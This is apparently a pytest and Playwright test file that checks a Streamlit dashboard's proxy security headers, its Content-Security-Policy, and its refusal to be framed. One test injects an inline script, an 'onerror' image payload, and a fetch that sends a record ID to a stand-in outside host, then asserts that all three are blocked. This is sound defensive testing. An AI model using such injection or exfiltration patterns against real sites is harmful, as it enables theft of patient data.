"""The headers that docs/security.md gives the proxy: sent, in force, and nothing breaks."""

from __future__ import annotations

import re
import urllib.error
import urllib.request

import pytest
import streamlit

from docs.make_locks import pins
from tests.patience import PATIENCE_MS, PATIENCE_S

PAGES = ("compare", "import", "records", "figure", "report", "settings", "methods")
FILE = {
    "name": "m.csv",
    "mimeType": "text/csv",
    "buffer": b"patient_id,date,site,thickness_mm\nPROXY-1,2024-01-10,calf,2.50\n",
}


def policy(documented_headers):
    return dict(documented_headers)["Content-Security-Policy"]


def violations(page):
    """What Chromium said of the policy, and every other error but a page it looks for first."""
    return [
        said
        for said in page.said
        if "Content Security Policy" in said
        or (said.startswith("error") and "404 (Not Found)" not in said)
    ]


@pytest.mark.parametrize("path", ["/", "/records", "/_stcore/health", "/app/static/none.png"])
def test_every_answer_carries_the_documented_headers(deployment, documented_headers, path):
    assert len(documented_headers) >= 6
    try:
        with urllib.request.urlopen(deployment.url + path, timeout=PATIENCE_S) as answer:
            headers = answer.headers
    except urllib.error.HTTPError as error:
        headers = error.headers
    assert {name: headers[name] for name, _ in documented_headers} == dict(documented_headers)


def test_every_page_works_under_the_policy_without_a_violation(sign_in, deployment):
    page = sign_in("edda")
    page.wait_for_selector(".js-plotly-plot .scatterlayer .point")
    for name in PAGES:
        page.goto(f"{deployment.url}/{name}")
        page.locator(".notice, h1").first.wait_for()
    page.goto(f"{deployment.url}/import")
    page.locator("input[type=file]").set_input_files(FILE)
    page.get_by_test_id("stButton").filter(has_text="Import").get_by_role("button").click()
    page.wait_for_selector(".js-plotly-plot .scatterlayer .point")
    page.goto(f"{deployment.url}/records")
    page.get_by_test_id("stDataFrame").first.wait_for()
    assert page.evaluate("document.fonts.check('16px \"IBM Plex Sans\"')")
    assert violations(page) == []


def test_a_script_that_got_into_a_page_neither_runs_nor_sends_anything(sign_in):
    page = sign_in("edda")
    page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.ran = true';
            document.body.append(script);
            const shown = document.createElement('div');
            shown.innerHTML = '<img src=x onerror="window.ran = true">';
            document.body.append(shown);
        }"""
    )
    page.locator("img[src=x]").wait_for(state="attached")
    sent = page.evaluate(
        "fetch('https://elsewhere.example/?DERM-1').then(() => 'sent', () => 'refused')"
    )
    assert (sent, page.evaluate("window.ran")) == ("refused", None)
    assert any("connect-src" in said for said in page.said)


def test_no_other_page_can_frame_the_dashboard(browser, deployment):
    page = browser.new_page()

    def is_refusal(message):
        return "frame-ancestors" in message.text or "X-Frame-Options" in message.text

    with page.expect_console_message(is_refusal, timeout=PATIENCE_MS):
        page.set_content(f'<iframe src="{deployment.url}"></iframe>', timeout=PATIENCE_MS)
    page.close()


def test_the_policy_allows_one_inline_script_and_no_other(written_headers):
    assert policy(written_headers).count("'sha256-") == 1
    assert "script-src 'self' blob: 'sha256-" in policy(written_headers)
    assert "unsafe-eval" not in policy(written_headers)


def test_the_script_allowed_is_that_of_the_streamlit_named_which_is_the_one_locked(
    repository, written_headers, inline_script
):
    named = re.search(
        r"on Streamlit (\d+\.\d+\.\d+)",
        (repository / "docs/security.md").read_text(encoding="utf-8"),
    )
    assert named is not None
    assert f"streamlit=={named[1]}" in pins("requirements.txt")
    # What another version writes is its own affair: the document says what to do then.
    if streamlit.__version__ == named[1]:
        assert inline_script in policy(written_headers)


def test_both_documented_proxies_send_the_same_headers(repository, written_headers):
    text = (repository / "docs/security.md").read_text(encoding="utf-8")
    caddy = re.search(r"```caddyfile\n(.*?)```", text, re.DOTALL)[1]
    sent = re.findall(r'^\s+([A-Z][\w-]+) "([^"]+)"$', caddy, re.MULTILINE)
    assert sent == written_headers
